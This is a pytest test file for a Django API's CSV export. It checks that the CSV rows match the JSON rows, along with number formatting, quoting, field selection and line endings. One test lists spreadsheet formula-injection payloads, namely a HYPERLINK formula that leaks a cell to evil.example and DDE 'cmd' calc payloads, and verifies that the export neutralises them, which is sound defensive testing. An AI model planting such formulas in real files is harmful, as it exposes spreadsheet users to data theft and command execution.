"""CSV export: the same rows as the JSON list, every one of them, safe to open in a
spreadsheet."""

from decimal import Decimal
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.dateparse import parse_datetime

from events.models import MetricType
from factbase.core.kinds import kinds
from factbase.core.services import record_save

from ..factories import (
    CompanyAliasFactory,
    CompanyFactory,
    MetricFactory,
    MetricTypeFactory,
    PartnershipFactory,
    ProductFactory,
    SourceFactory,
)
from .base import csv_rows, results
from .resources import RESOURCES

pytestmark = pytest.mark.django_db


def json_value(row: dict, header: str):
    """The JSON value a CSV column stands for: `company_slug` is `company.slug`. A
    sentinel when the JSON has no such value."""
    if header in row and not isinstance(row[header], dict | list):
        return row[header]
    for name, value in row.items():
        if isinstance(value, dict) and header.startswith(f"{name}_"):
            key = header.removeprefix(f"{name}_")
            if key in value:
                return value[key]
        if value is None and header.startswith(f"{name}_"):
            return None
    return NotImplemented


# The JSON's lists of child rows, as docs/api.md ("CSV", "Lists") says they read: the field
# naming each row, the detail after it, and whether the list has a labels column and an ids
# column. Every other list links records: their slugs and their ids.
CHILD_ROWS = {
    "aliases": ("name", None, True, False),
    "identifiers": ("value", "scheme", True, False),
    "roles": ("company", "title", True, True),
    "parties": ("company", "role", True, True),
    "investments": ("investor", "is_lead", True, True),
    "citations": ("source", None, False, True),
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escaped(text: str) -> str:
    for character, code in (("%", "%25"), (";", "%3B"), ("(", "%28"), (")", "%29")):
        text = text.replace(character, code)
    return text


def list_cells(name: str, items: list[dict]) -> dict[str, str]:
    """The CSV cells of the JSON list `name`, by column, written here from the JSON."""
    if name not in CHILD_ROWS:
        labels = [escaped(item["slug"]) for item in items]
        ids = [str(item["id"]) for item in items]
        cells = {name: "; ".join(labels), f"{name}_ids": ";".join(ids)}
    else:
        field, detail, labelled, identified = CHILD_ROWS[name]
        labels, ids = [], []
        for item in items:
            named = item[field]
            if isinstance(named, dict):
                ids.append(str(named["id"]))
                label = escaped(named.get("slug") or "")
            else:
                label = escaped(named)
            if detail == "is_lead":
                label += " (lead)" if item[detail] else ""
            elif detail is not None and item[detail]:
                label += f" ({escaped(item[detail])})"
            labels.append(label)
        cells = {}
        if labelled:
            cells[name] = "; ".join(labels)
        if identified:
            cells[f"{name}_{field}_ids"] = ";".join(ids)
    return {
        header: "'" + text if text.startswith(FORMULA_START) else text
        for header, text in cells.items()
    }


def assert_same_rows(header: list[str], csv_rows_: list[dict], json_rows: list[dict]) -> None:
    """Every cell of every CSV row is what the JSON row says: its value, a related
    record's value, or its list in the CSV's form."""
    assert [int(row["id"]) for row in csv_rows_] == [row["id"] for row in json_rows]
    for json_row, csv_row in zip(json_rows, csv_rows_, strict=True):
        lists = {}
        for name, value in json_row.items():
            if isinstance(value, list):
                lists.update(list_cells(name, value))
        for column in header:
            if column in lists:
                assert csv_row[column] == lists[column], (json_row["id"], column)
                continue
            value = json_value(json_row, column)
            assert value is not NotImplemented, column  # a column the JSON does not show
            assert same(csv_row[column], value), (column, csv_row[column], value)


def same(csv_cell: str, value) -> bool:
    if value is None:
        return csv_cell == ""
    if isinstance(value, bool):
        return csv_cell == ("true" if value else "false")
    if isinstance(value, int):
        return csv_cell == str(value)
    if isinstance(value, str) and parse_datetime(value) and "T" in value:
        return parse_datetime(csv_cell) == parse_datetime(value)
    try:
        return Decimal(csv_cell) == Decimal(value)
    except (ArithmeticError, ValueError, TypeError):
        return csv_cell == value


@pytest.mark.parametrize("resource", RESOURCES, ids=lambda r: r.path)
def test_csv_matches_json_row_for_row(anon_api, editor, resource):
    resource = resource()
    source = SourceFactory()
    made = [resource.make_rich(editor, source) for _ in range(4)]
    keys = ",".join(str(obj.pk) for obj in made[1:])
    query = f"id={keys}&ordering=-id"
    json_rows = results(anon_api.get(resource.url(query=query)))
    header, csv_rows_ = csv_rows(anon_api.get(resource.url(query=f"{query}&format=csv")))
    assert [row["id"] for row in json_rows] == sorted((obj.pk for obj in made[1:]), reverse=True)
    assert_same_rows(header, csv_rows_, json_rows)
    # Every list of the JSON has its columns, and the rows made show items in them.
    for name, value in json_rows[0].items():
        if isinstance(value, list):
            assert set(list_cells(name, value)) <= set(header), name
            assert value, name


def all_json_rows(api, path: str) -> list[dict]:
    rows, url = [], f"{path}?limit=1000"
    while url:
        response = api.get(url)
        rows += results(response)
        url = response.json()["next"]
    return rows


# The demo has no funding round: one, with a lead investor, another and a citation.
ROUND = {
    "company": "mistral-ai",
    "round_type": "series_b",
    "announced_on": "2024-06-11",
    "announced_precision": "day",
    "qualifier": "exact",
    "value": "600000000",
    "currency": "EUR",
    "investments": [
        {"investor": "bpifrance", "is_lead": True},
        {"investor": "mgx", "qualifier": "approximate", "value": "150000000", "currency": "EUR"},
    ],
}


def test_every_kinds_csv_is_its_json_on_the_demo_data(anon_api, editor_api):
    call_command("load_demo", verbosity=0)
    created = editor_api.post("/api/v1/funding-rounds/", ROUND, format="json")
    assert created.status_code == 201, created.content
    lists = set()
    for kind in kinds():
        if not kind.endpoint:
            continue
        path = f"/api/v1/{kind.name}/"
        json_rows = all_json_rows(anon_api, path)
        header, csv_rows_ = csv_rows(anon_api.get(f"{path}?format=csv"))
        assert json_rows, kind.name
        assert_same_rows(header, csv_rows_, json_rows)
        lists |= {(kind.name, h) for h in header for row in csv_rows_ if ";" in row[h]}
    # The demo shows lists of several items in each of these.
    assert {
        ("partnerships", "parties"),
        ("events", "companies"),
        ("products", "platforms"),
        ("funding-rounds", "investments"),
        ("metrics", "citations_source_ids"),
    } <= lists


def test_metric_decimals_and_filters_agree(anon_api):
    company = CompanyFactory()
    revenue = MetricType.objects.get(slug="revenue")
    values = ["1234.5600", "0.0001", "500000000", "98765432101.25"]
    for value in values:
        MetricFactory(company=company, value=Decimal(value))
    MetricFactory(product=ProductFactory(company=company), company=None, value=Decimal("7.5"))
    MetricFactory(metric_type=revenue, currency="EUR", unit="money", value=Decimal("3"))
    query = f"company={company.slug}&value_min=0.0001&ordering=value"
    json_rows = results(anon_api.get(f"/api/v1/metrics/?{query}"))
    _, csv_rows_ = csv_rows(anon_api.get(f"/api/v1/metrics/?{query}&format=csv"))
    assert len(json_rows) == len(csv_rows_) == 5
    for json_row, csv_row in zip(json_rows, csv_rows_, strict=True):
        assert int(csv_row["id"]) == json_row["id"]
        assert Decimal(csv_row["value"]) == Decimal(json_row["value"])
        assert csv_row["metric_type_slug"] == json_row["metric_type"]["slug"]
    assert [Decimal(row["value"]) for row in csv_rows_] == sorted(
        Decimal(v) for v in [*values, "7.5"]
    )
    # Written as plain numbers: no exponent, no trailing zeros.
    assert {row["value"] for row in csv_rows_} == {
        "1234.56",
        "0.0001",
        "500000000",
        "98765432101.25",
        "7.5",
    }


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTab first",
        "\rCarriage return first",
    ],
)
def test_formulas_are_neutralised(anon_api, text):
    company = CompanyFactory(description=text, name=text)
    _, rows = csv_rows(anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv"))
    assert rows[0]["description"] == "'" + text
    assert rows[0]["name"] == "'" + text
    # JSON is data, not a spreadsheet: it stays as stored.
    assert anon_api.get(f"/api/v1/companies/{company.pk}/").json()["description"] == text
    # A single record exported as CSV is neutralised the same way.
    one = anon_api.get(f"/api/v1/companies/{company.pk}/?format=csv")
    assert csv_rows(one)[1] == rows


def test_numbers_are_not_mistaken_for_formulas(anon_api):
    percent = MetricTypeFactory(unit_kind="percent")
    metric = MetricFactory(metric_type=percent, unit="percent", value=Decimal("-5.5"))
    _, rows = csv_rows(anon_api.get(f"/api/v1/metrics/?id={metric.pk}&format=csv"))
    assert rows[0]["value"] == "-5.5"


def test_csv_is_utf8(anon_api):
    name = "Société Générale – 東京 Ünïcödé"
    company = CompanyFactory(name=name)
    response = anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _, rows = csv_rows(response)
    assert rows[0]["name"] == name


def test_csv_keeps_commas_quotes_and_newlines_in_one_cell(anon_api):
    text = 'Line one, with "quotes"\nline two'
    company = CompanyFactory(description=text)
    _, rows = csv_rows(anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv"))
    assert rows[0]["description"] == text


def test_a_csv_of_one_column_writes_the_same_bytes_on_either_database(anon_api):
    """A line of one empty cell is `""`, not an empty line that readers skip (the row
    lost), and a cell alone that is `\\.` is quoted, as COPY quotes its end-of-data mark:
    the same bytes from PostgreSQL's COPY and from Python's writer."""
    made = [
        CompanyFactory(description=""),
        CompanyFactory(description="\\."),
        CompanyFactory(description="plain"),
        CompanyFactory(description='one, "two"'),
    ]
    keys = ",".join(str(c.pk) for c in made)
    response = anon_api.get(f"/api/v1/companies/?id={keys}&fields=description&format=csv")
    body = b"".join(response.streaming_content).decode()
    assert body == 'description\n""\n"\\."\nplain\n"one, ""two"""\n'
    response = anon_api.get(f"/api/v1/companies/?id={keys}&fields=founded_on&format=csv")
    body = b"".join(response.streaming_content).decode()
    assert body == 'founded_on\n""\n""\n""\n""\n'


def test_csv_fields_keep_a_references_columns(anon_api):
    product = ProductFactory()
    query = f"id={product.pk}&format=csv&fields=id,company"
    header, rows = csv_rows(anon_api.get(f"/api/v1/products/?{query}"))
    assert header == ["id", "company_id", "company_name", "company_slug"]
    assert rows == [
        {
            "id": str(product.pk),
            "company_id": str(product.company_id),
            "company_name": product.company.name,
            "company_slug": product.company.slug,
        }
    ]


def test_json_fields_keep_only_those_fields(anon_api):
    metric = MetricFactory()
    rows = results(anon_api.get(f"/api/v1/metrics/?id={metric.pk}&fields=id,value,region"))
    assert rows == [{"id": metric.pk, "value": "1000", "region": ""}]


def test_fields_keep_the_order_asked_for_in_json_and_csv(anon_api):
    metric = MetricFactory(region="FR")
    rows = results(anon_api.get(f"/api/v1/metrics/?id={metric.pk}&fields=region,value,id"))
    assert [list(row) for row in rows] == [["region", "value", "id"]]
    detail = anon_api.get(f"/api/v1/metrics/{metric.pk}/?fields=value,id").json()
    assert list(detail) == ["value", "id"]
    header, _ = csv_rows(
        anon_api.get(f"/api/v1/metrics/?id={metric.pk}&format=csv&fields=region,company,id")
    )
    assert header == ["region", "company_id", "company_name", "company_slug", "id"]


def test_fields_take_csv_column_names_too(anon_api):
    metric = MetricFactory()
    query = f"id={metric.pk}&fields=company_slug,value"
    header, rows = csv_rows(anon_api.get(f"/api/v1/metrics/?{query}&format=csv"))
    assert header == ["company_slug", "value"]
    assert rows == [{"company_slug": metric.company.slug, "value": "1000"}]
    # In JSON a column's name stands for its field.
    (row,) = results(anon_api.get(f"/api/v1/metrics/?{query}"))
    assert list(row) == ["company", "value"]
    assert row["company"]["slug"] == metric.company.slug


def test_a_field_that_has_no_csv_column_is_refused_in_csv(anon_api):
    PartnershipFactory()
    response = anon_api.get("/api/v1/partnerships/?format=csv&fields=id,title,url")
    assert response.status_code == 400
    assert "Not in the CSV: url (JSON only)." in response.content.decode()
    assert anon_api.get("/api/v1/partnerships/?fields=id,title,url").status_code == 200


def test_csv_error_is_readable(anon_api):
    response = anon_api.get("/api/v1/companies/?format=csv&fields=nonsense")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert text.startswith("field,value\nfields,")  # one line ending for every CSV
    assert "Unknown: nonsense" in text
    assert "ErrorDetail" not in text


def test_a_single_record_as_csv_is_its_row_of_the_list(anon_api):
    """The same columns in the same forms as the list's CSV (its lists as the list's
    columns give them, not as JSON), by id or by slug, with fields= and as_of."""
    company = CompanyFactory(name="Mistral AI", slug="mistral-ai")
    CompanyFactory()
    listed = b"".join(
        anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv").streaming_content
    )
    for key in (company.pk, "mistral-ai"):
        response = anon_api.get(f"/api/v1/companies/{key}/", HTTP_ACCEPT="text/csv")
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == listed
        assert f'filename="companies-{key}.csv"' in response["Content-Disposition"]
    some = anon_api.get(f"/api/v1/companies/{company.pk}/?format=csv&fields=name,slug")
    assert b"".join(some.streaming_content) == b"name,slug\nMistral AI,mistral-ai\n"
    missing = anon_api.get("/api/v1/companies/999999/?format=csv")
    assert missing.status_code == 404


def test_a_single_record_as_csv_at_a_past_instant(anon_api):
    company = CompanyFactory(name="Old name")
    before = timezone.now().isoformat()
    company.name = "New name"
    record_save(company)
    url = f"/api/v1/companies/{company.pk}/?format=csv&fields=name"
    assert b"".join(anon_api.get(url).streaming_content) == b"name\nNew name\n"
    past = anon_api.get(f"{url}&as_of={quote(before)}")
    assert b"".join(past.streaming_content) == b"name\nOld name\n"


def test_a_single_records_csv_costs_the_lists_csv_and_one_query(anon_api):
    """Whatever the record holds: one query to say whether it is there, then its CSV as
    the list reads it."""
    few = CompanyFactory()
    many = CompanyFactory()
    for index in range(5):
        CompanyAliasFactory(company=many, name=f"Alias {index}")

    def queries(url):
        with CaptureQueriesContext(connection) as captured:
            b"".join(anon_api.get(url).streaming_content)
        return len(captured)

    listed = queries(f"/api/v1/companies/?id={few.pk}&format=csv")
    assert queries(f"/api/v1/companies/{few.pk}/?format=csv") == listed + 1
    assert queries(f"/api/v1/companies/{many.pk}/?format=csv") == listed + 1


def test_a_records_history_is_json_only(anon_api):
    """Its versions one row each are the change log's CSV."""
    company = CompanyFactory()
    response = anon_api.get(f"/api/v1/companies/{company.pk}/history/?format=csv")
    assert response.status_code == 400
    assert "format" in response.json()


def test_every_csv_ends_its_lines_with_a_line_feed(anon_api, editor_api):
    """One dialect (factbase.core.text): the list CSV streamed by the database, the change log
    CSV, and a single record or an error as CSV all end lines with "\\n" alone."""
    MetricFactory()
    editor_api.post("/api/v1/platforms/", {"slug": "tv", "name": "TV"}, format="json")
    bodies = [
        b"".join(anon_api.get("/api/v1/metrics/?format=csv").streaming_content),
        b"".join(anon_api.get("/api/v1/changes/?format=csv").streaming_content),
        anon_api.get("/api/v1/companies/?format=csv&fields=nonsense").content,
        b"".join(anon_api.get("/api/v1/platforms/tv/?format=csv").streaming_content),
    ]
    for body in bodies:
        assert body.count(b"\n") >= 2, body
        assert b"\r\n" not in body, body
